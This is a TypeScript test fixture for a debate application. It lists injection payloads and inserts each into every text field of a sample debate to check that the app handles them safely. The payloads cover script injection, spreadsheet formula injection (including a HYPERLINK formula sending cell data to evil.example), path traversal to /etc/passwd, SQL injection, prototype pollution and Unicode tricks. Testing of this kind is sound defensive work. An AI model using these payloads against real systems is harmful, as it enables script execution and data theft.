import type { Debate } from '../../src/core/model/debate.ts'
import { FormatError } from '../../src/formats/formatError.ts'
import { readJson, writeJson } from '../../src/formats/json.ts'
import { hostileAddresses, hostileTexts } from './hostileDebate.ts'
import { wholeDebate } from './wholeDebate.ts'

/** What breaks out of the places that a text comes to, one for each way that is known to us. */
export const payloads: readonly string[] = [
  ...hostileTexts,
  ...hostileAddresses,
  '[click](javascript:globalThis.broken=true) ![x](data:text/html,<script>globalThis.broken=true</script>)',
  '[a]: javascript:globalThis.broken=true\n\n[a] <javascript:globalThis.broken=true>',
  'mailto:somebody@example.org',
  'https://example.org/" onmouseover="globalThis.broken=true',
  "https://example.org/'><script>globalThis.broken=true</script>",
  'https://user:pass@example.org/\u202egpj.exe',
  'x</title><script>globalThis.broken=true</script>',
  '</textarea></select></option><script>globalThis.broken=true</script>',
  '<svg xmlns="http://www.w3.org/2000/svg"><script>globalThis.broken=true</script><a href="javascript:globalThis.broken=true"/></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src=x onerror=globalThis.broken=true>',
  '<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example/x) }</style>',
  '} body { display: none } /* url(https://evil.example/) expression(alert(1)) */',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><img src="https://evil.example/x.png">',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ';=1+1',
  '","=1+1',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"polluted":true}}',
  '../../../etc/passwd',
  'C:\\con\\aux.txt:stream',
  '%00%2e%2e%2f',
  '\u0007\u001b[31mred\u001b[0m\u0085\u009b31m',
  '\u200b\u2060\ufeff\u2028\u2029',
  '\ufffe\uffff\ud800',
  '%n%s%x $\u007b7*7} {{7*7}} <%= 7*7 %> #{7*7}',
  "'; DROP TABLE debates; --",
  'a\\"b\\\\"c\\n\\l\\N',
  'z\u0300\u0301\u0302\u0303\u0304'.repeat(200),
]

type Place = readonly (string | number)[]

/** The places of all texts in a JSON value. */
function places(value: unknown, at: Place = []): Place[] {
  if (typeof value === 'string') return [at]
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([key, below]) =>
    places(below, [...at, Array.isArray(value) ? Number(key) : key]),
  )
}

function put(root: unknown, at: Place, text: string): string {
  const holder = at.slice(0, -1).reduce((value, key) => Reflect.get(value as object, key), root) as object
  const last = at.at(-1) as string | number
  const before = Reflect.get(holder, last) as string
  Reflect.set(holder, last, text)
  return before
}

function accepted(file: unknown): boolean {
  try {
    readJson(JSON.stringify(file))
    return true
  } catch (error) {
    if (error instanceof FormatError) return false
    throw error
  }
}

const whole: unknown = JSON.parse(writeJson(wholeDebate()))

/** Every field of the model in which a person's words may stand, found by trying: the rest is refused. */
export const fields: readonly Place[] = places(whole).filter((at) => {
  const file: unknown = structuredClone(whole)
  put(
    file,
    at,
    at.at(-1) === 'quote' ? 'Words that nobody expects here. '.repeat(9) : 'Words that nobody expects here.',
  )
  return accepted(file)
})

/** A debate that has all that a debate can have, with a payload in every field that takes it, and in its tags. */
export function debateOfPayload(payload: string): Debate {
  const file = structuredClone(whole) as { claims: { tags: Record<string, true> }[] }
  // Marks stand on places of a quote, so it stays as long as it was.
  const fill = (at: Place) => put(file, at, at.at(-1) === 'quote' ? payload.padEnd(200, ' and so on') : payload)
  const before = fields.map(fill)
  if (!accepted(file)) {
    // Some fields take no line breaks, say: each alone, then.
    for (const [i, at] of fields.entries()) put(file, at, before[i] as string)
    for (const at of fields) {
      const earlier = fill(at)
      if (!accepted(file)) put(file, at, earlier)
    }
  }
  const [motion] = file.claims
  if (motion !== undefined) {
    motion.tags = JSON.parse(`{${JSON.stringify(payload)}: true}`)
    if (!accepted(file)) motion.tags = {}
  }
  return readJson(JSON.stringify(file))
}
